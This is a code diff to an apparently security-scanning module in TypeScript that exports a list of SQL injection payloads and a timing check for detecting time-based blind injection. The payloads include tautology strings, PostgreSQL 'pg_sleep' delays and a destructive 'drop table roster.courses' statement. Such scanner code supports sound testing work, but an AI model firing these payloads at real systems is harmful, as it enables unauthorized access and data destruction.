@@ -3,7 +3,7 @@ import { open, type Aim, type Target, type WideAttack } from '../attack.js';
 import { some } from '../some.js';
 
 /** Three seconds of sleep would be seen; so would an error of the database. */
-const SQL: readonly string[] = [
+export const SQL: readonly string[] = [
   `' or '1'='1`,
   `'; select pg_sleep(3) --`,
   `') or (select pg_sleep(3)) is null --`,
@@ -11,7 +11,7 @@ const SQL: readonly string[] = [
   `\\'; drop table roster.courses; --`,
   `1; select pg_sleep(3)`,
 ];
-const SLEPT_MS = 2_800;
+export const SLEPT_MS = 2_800;
 
 interface Place {
   readonly where: string;
@@ -67,7 +67,10 @@ export const sqlInjection: WideAttack = {
 };
 
 /** A busy machine is slow once, a sleep takes its time again. */
-async function stillSleeps({ origin }: Target, question: Parameters<typeof ask>[1]): Promise<boolean> {
+export async function stillSleeps(
+  { origin }: Pick<Target, 'origin'>,
+  question: Parameters<typeof ask>[1],
+): Promise<boolean> {
   return (await ask(origin, question)).ms > SLEPT_MS;
 }
 
